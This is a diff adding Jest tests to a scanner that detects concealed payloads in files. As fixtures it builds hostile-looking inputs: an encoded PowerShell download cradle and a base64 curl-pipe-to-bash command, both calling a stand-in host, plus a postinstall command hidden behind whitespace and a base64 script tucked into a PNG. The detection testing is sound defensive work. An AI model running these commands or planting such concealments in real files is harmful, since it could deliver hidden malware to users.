@@ -162,6 +162,31 @@ describe("findConcealments", () => {
     expect(found?.detail).toContain(expected);
   });
 
+  test("finds PowerShell in the encoding of its own command line", () => {
+    const command = "IEX (New-Object Net.WebClient).DownloadString('http://h.invalid/a')";
+    const [found] = find(
+      "a.js",
+      `run("powershell -enc ${Buffer.from(command, "utf16le").toString("base64")}");`,
+    );
+
+    expect(found?.detail).toContain("a PowerShell script");
+  });
+
+  test("finds a short command for a shell", () => {
+    const [found] = find(
+      "a.js",
+      `run("${Buffer.from("curl -s http://h.invalid/install/a.sh | bash -s -- -y").toString("base64")}");`,
+    );
+
+    expect(found?.detail).toContain("a shell script");
+  });
+
+  test("finds the rest of a command behind white space in a manifest", () => {
+    expect(
+      kindsOf("package.json", `{"scripts":{"postinstall":"echo done${" ".repeat(400)}&& node a.js"}}`),
+    ).toEqual(["off-screen-code"]);
+  });
+
   test("finds an encoded program in a file of data", () => {
     expect(kindsOf("a.json", JSON.stringify({ icon: windowsProgram().toString("base64") }))).toEqual([
       "payload-in-data",
@@ -216,6 +241,19 @@ describe("findConcealments", () => {
 
     expect(found).toMatchObject({ kind: "appended-data", amount: script.length });
     expect(found?.detail).toContain("JavaScript");
+  });
+
+  test("finds a script in base64 after the end of an image, and in its texts", () => {
+    const encoded = Buffer.from(script).toString("base64");
+    const comment = Buffer.from(`Comment\0${encoded}`);
+    const head = Buffer.alloc(8);
+    head.writeUInt32BE(comment.length, 0);
+    head.write("tEXt", 4, "latin1");
+    const image = pngWith(Buffer.alloc(0));
+    const withText = Buffer.concat([image.subarray(0, 8), head, comment, Buffer.alloc(4), image.subarray(8)]);
+
+    expect(find("a.png", pngWith(Buffer.from(encoded)))[0]?.detail).toContain("in base64");
+    expect(kindsOf("a.png", withText)).toEqual(["payload-in-data"]);
   });
 
   test("does not mind an image that ends where it should", () => {
